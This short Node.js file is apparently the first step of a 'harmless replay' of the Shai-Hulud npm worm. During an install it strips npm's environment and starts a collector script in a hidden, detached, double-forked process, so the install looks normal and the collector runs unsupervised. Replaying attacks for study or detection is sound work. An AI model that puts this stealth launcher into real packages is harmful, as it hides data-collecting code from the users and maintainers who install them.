// A harmless replay of Shai-Hulud (2025), first step: start the collector in a
// session of its own, with nothing of npm's environment left, and end, so that
// the install looks normal and the collector belongs to nobody.
'use strict'
const path = require('path')
const { spawn } = require('child_process')
const env = {}
for (const k of ['PATH', 'HOME', 'USERPROFILE', 'APPDATA', 'LOCALAPPDATA', 'SystemRoot', 'ComSpec', 'PATHEXT', 'TMPDIR', 'TEMP', 'TMP']) {
  if (process.env[k]) env[k] = process.env[k]
}
const collector = path.join(__dirname, 'collect.js')
const again = process.argv[2] === '--detached' // the second time: fork twice
spawn(process.execPath, again ? [collector] : [__filename, '--detached'], { detached: true, stdio: 'ignore', env, windowsHide: true }).unref()
